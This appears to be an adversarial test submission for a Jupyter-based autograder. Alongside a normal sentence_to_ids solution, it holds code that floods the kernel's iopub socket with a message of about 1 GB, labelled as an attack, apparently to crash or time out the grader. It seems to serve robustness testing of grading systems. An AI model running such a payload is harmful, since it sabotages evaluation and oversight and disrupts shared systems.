# kind: fills
# attack: sends a message of twelve parts of 90 MB which share their memory
# exercise: 4-partitioned-lookup/sentence_to_ids
# verdict: passed, timed out, kernel died, failed
# others: lost
kernel = get_ipython().kernel


def send(kind, content, *buffers, **options):
    kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent(), buffers=list(buffers), **options)


part = bytes(90_000_000)
frames = kernel.session.serialize(kernel.session.msg("stream", {"name": "stdout", "text": "x"}, kernel.get_parent()))
kernel.iopub_socket.send_multipart([b"x", *frames, *[part] * 12], copy=False)


def sentence_to_ids(sentence, word_to_id, unknown_word="unk"):
    return [word_to_id.get(word, word_to_id[unknown_word]) for word in sentence.split()]
